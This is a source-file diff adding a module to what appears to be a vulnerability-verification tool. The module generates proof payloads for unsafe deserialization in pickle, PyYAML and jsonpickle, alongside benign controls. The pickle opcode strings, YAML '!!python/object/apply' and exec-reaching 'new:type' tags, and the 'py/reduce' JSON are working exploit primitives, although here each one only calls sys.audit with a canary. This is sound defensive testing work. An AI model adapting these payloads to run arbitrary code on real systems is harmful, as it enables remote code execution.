@@ -1,0 +1,101 @@
+"""How unsafe deserialization shows itself: the data chooses what is called."""
+
+from collections.abc import Mapping
+from dataclasses import replace
+
+from countermine.core.findings import Finding
+from countermine.core.knowledge import WitnessMaker
+from countermine.core.spans import TreePath
+from countermine.core.witnesses import CANARY, Encoding, Observation, Witness
+from countermine.prove.drive.maker import PlannedMaker
+from countermine.prove.drive.making import Payload, Plan, trace_texts
+from countermine.prove.drive.silence import place
+
+# Every payload calls sys.audit: it tells the observer and does nothing else.
+_PICKLE = "csys\naudit\n(S'countermine.mark'\nS'{canary}'\ntR."
+_PICKLE_4 = "\x80\x04\x8c\x03sys\x8c\x05audit\x93\x8c\x10countermine.mark\x8c\x0c{canary}\x86R."
+_PICKLE_BUILT = "(S'countermine.mark'\nS'{canary}'\nisys\naudit\n."
+_PICKLED = "(dp0\nS'a'\nI1\ns."
+_EXEC = "__import__(\\'sys\\').audit(\\'countermine.mark\\',\\'{canary}\\')"
+
+_PICKLES = (
+    Payload(name="reduce", text=_PICKLE),
+    Payload(name="reduce-protocol-4", text=_PICKLE_4),
+    Payload(name="instance", text=_PICKLE_BUILT),
+)
+_YAML = (
+    Payload(
+        name="apply", text="!!python/object/apply:sys.audit ['countermine.mark', '{canary}']\n"
+    ),
+    Payload(
+        name="apply-in-mapping",
+        text="a: !!python/object/apply:sys.audit ['countermine.mark', '{canary}']\n",
+    ),
+    Payload(
+        name="new-type-with-state",
+        text=(
+            '!!python/object/new:type\nargs: ["cm", !!python/tuple [], '
+            '{"extend": !!python/name:exec }]\n'
+            f"listitems: '{_EXEC}'\n".replace("\\'", "''")
+        ),
+    ),
+    Payload(
+        name="full-tag",
+        text=(
+            "!<tag:yaml.org,2002:python/object/apply:sys.audit> ['countermine.mark', '{canary}']\n"
+        ),
+    ),
+)
+_JSON = (
+    Payload(
+        name="reduce",
+        text=(
+            '{"py/reduce": [{"py/function": "sys.audit"}, '
+            '{"py/tuple": ["countermine.mark", "{canary}"]}]}'
+        ),
+    ),
+)
+_ENCODERS = (
+    (b"urlsafe_b64decode", Encoding.BASE64_URL),
+    (b"b64decode", Encoding.BASE64),
+    (b"fromhex", Encoding.HEX),
+    (b"unhexlify", Encoding.HEX),
+)
+
+
+def plan(finding: Finding, texts: Mapping[TreePath, bytes]) -> Plan:
+    """Return data of the format that the sink reads, in the encoding that the target takes off."""
+    sink = finding.sink.lower()
+    if "yaml" in sink:
+        control = Payload(name="plain-data", text="a: 1\nb: [x, y]\n", file_name="input.yaml")
+        attacks = tuple(replace(one, file_name="input.yaml") for one in _YAML)
+    elif "jsonpickle" in sink:
+        control, attacks = Payload(name="plain-data", text='{"a": 1}'), _JSON
+    else:
+        control = Payload(name="plain-data", text=_PICKLED, file_name="input.pkl")
+        attacks = tuple(replace(one, file_name="input.pkl") for one in _PICKLES)
+    encoding = _encoding(trace_texts(finding, texts))
+    return Plan(
+        attacks=tuple(replace(one, encoding=encoding) for one in attacks),
+        controls=(replace(control, encoding=encoding),),
+    )
+
+
+def _encoding(near: list[bytes]) -> Encoding:
+    for word, encoding in _ENCODERS:
+        if any(word in part for part in near):
+            return encoding
+    return Encoding.PLAIN
+
+
+def _shown(_witness: Witness, seen: Observation, _benign: Observation) -> str | None:
+    for event in seen.events:
+        if event.name == "mark" and event.get("canary") == CANARY:
+            return f"the data called a function of its choice {place(event)}"
+        if event.name == "pickle.find_class" and event.get("module") == "sys":
+            return f"the data named a function of its choice and got it {place(event)}"
+    return None
+
+
+WITNESS: WitnessMaker = PlannedMaker(plan=plan, shown=_shown, as_file=True)
+"""Writes data that calls a function; all the function does is tell the observer."""
